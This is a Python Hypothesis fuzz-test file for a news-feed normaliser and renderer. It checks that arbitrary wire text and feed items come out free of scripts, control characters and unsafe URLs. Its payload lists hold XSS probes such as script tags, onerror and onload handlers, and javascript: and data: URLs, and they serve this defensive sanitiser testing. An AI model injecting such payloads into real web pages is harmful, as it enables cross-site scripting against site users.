_ANY_CHARACTERS = st.characters(codec=None, blacklist_categories=())  # surrogates included


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    title=st.sampled_from(_WIRE_TITLES) | st.text(_ANY_CHARACTERS, min_size=1, max_size=40),
    lines=st.lists(st.one_of(_WIRE_LINES, st.text(_ANY_CHARACTERS, max_size=30)), max_size=20),
    newline=st.sampled_from(["\n", "\r\n", "\r"]),
    encoding=st.sampled_from(["utf-8", "utf-8-sig", "cp1252", "utf-16"]),
)
def test_any_wire_text_reads_normalises_and_renders(
    title: str, lines: list[str], newline: str, encoding: str
) -> None:
    content = newline.join([title, *lines]).encode(
        encoding, errors="surrogatepass" if "utf" in encoding else "replace"
    )
    try:
        item = read_wire("fuzz.txt", content)
    except ParseError as error:
        assert str(error)
        event("refused by the wire reader")
        return
    try:
        article = normalise(item, WIRE_SOURCE, DESKS, TOPICS, datetime(2025, 7, 1, tzinfo=UTC))
    except ParseError:
        event("refused by the normaliser")
        return
    event("rendered")
    assert "<script" not in article.content_html.lower()
    render_and_check([article], repr(content[:60]))


_HTML_PIECES = st.sampled_from(
    [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
        '<a href="jav&#x09;ascript:x">', "<a href=/rel>", "<iframe src=//e>", "<svg onload=x>",
        "<p>", "</p>", "<b>", "&#0;", "&#xD800;", "&lt;script&gt;", "<![CDATA[", "]]>", "<!--",
        "-->", "\x00", "\x0b", "\ud800", "<math><mi xlink:href=javascript:x>",
        "<base href=//e>", "<form><input>", "text ",
    ]
)  # fmt: skip
_HTMLISH = st.one_of(
    st.none(),
    st.text(_ANY_CHARACTERS, max_size=40),
    st.lists(st.one_of(_HTML_PIECES, st.text(_ANY_CHARACTERS, max_size=6)), max_size=12).map(
        "".join
    ),
)
_URLISH = st.one_of(
    st.none(),
    st.text(_ANY_CHARACTERS, max_size=30),
    st.sampled_from(
        [
            "https://news.example/a?utm_source=x#f",
            "/relative",
            "//cdn.example/x",
            "javascript:alert(1)",
            "data:text/html,x",
            "http://[::1",
            "https://ex ample.com/",
            "http://xn--nxasmq6b.example/",
            "https://news.example:99999/",
            "mailto:a@b.c",
        ]
    ),
)
_MOMENTS = st.one_of(
    st.none(),
    st.datetimes(),
    st.datetimes(timezones=st.timezones()),
    st.datetimes(min_value=datetime(9990, 1, 1), timezones=st.just(UTC)),
)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    item=st.builds(
        RawItem,
        guid=st.one_of(st.none(), st.text(_ANY_CHARACTERS, max_size=30)),
        url=_URLISH,
        title=st.text(_ANY_CHARACTERS, max_size=40) | _HTML_PIECES,
        title_html=st.booleans(),
        summary_html=_HTMLISH,
        content_html=_HTMLISH,
        author=st.one_of(st.none(), st.text(_ANY_CHARACTERS, max_size=20)),
        byline=st.one_of(st.none(), st.just("NYM Desk"), st.text(_ANY_CHARACTERS, max_size=10)),
        categories=st.lists(st.text(_ANY_CHARACTERS, max_size=10), max_size=3).map(tuple),
        published=_MOMENTS,
        updated=_MOMENTS,
        language=st.one_of(
            st.none(), st.sampled_from(["en", "EN_gb", "x", "<b>"]), st.text(max_size=5)
        ),
        base_url=_URLISH,
    ),
    timezone=st.sampled_from(["UTC", "Europe/Brussels", "Pacific/Kiritimati", "America/St_Johns"]),
)
def test_any_raw_item_normalises_and_renders(item: RawItem, timezone: str) -> None:
    source = dataclasses.replace(CORPUS_SOURCE, timezone=timezone)
    now = datetime(2025, 7, 1, 12, tzinfo=UTC)
    try:
        article = normalise(item, source, DESKS, TOPICS, now)
    except ParseError:
        event("refused by the normaliser")
        return
    event("rendered")
    assert article.url is None or is_http(article.url)
    assert article.published <= now + timedelta(days=1) and article.published.year >= 1970
    for value in (article.title, article.summary, article.content_html):
        assert not CONTROL.search(value), value
    # a guid is exact (controls and all, escaped: they tell guids apart) and storable
    assert item.guid is None or exact_guid(item.guid) in (None, article.guid)
    assert not CONTROL.search(article.guid), article.guid
    article.guid.encode("utf-8")
    assert_inert(article.content_html, "content_html")
    render_and_check([article, dataclasses.replace(article, id=article.id[::-1])], repr(item)[:200])
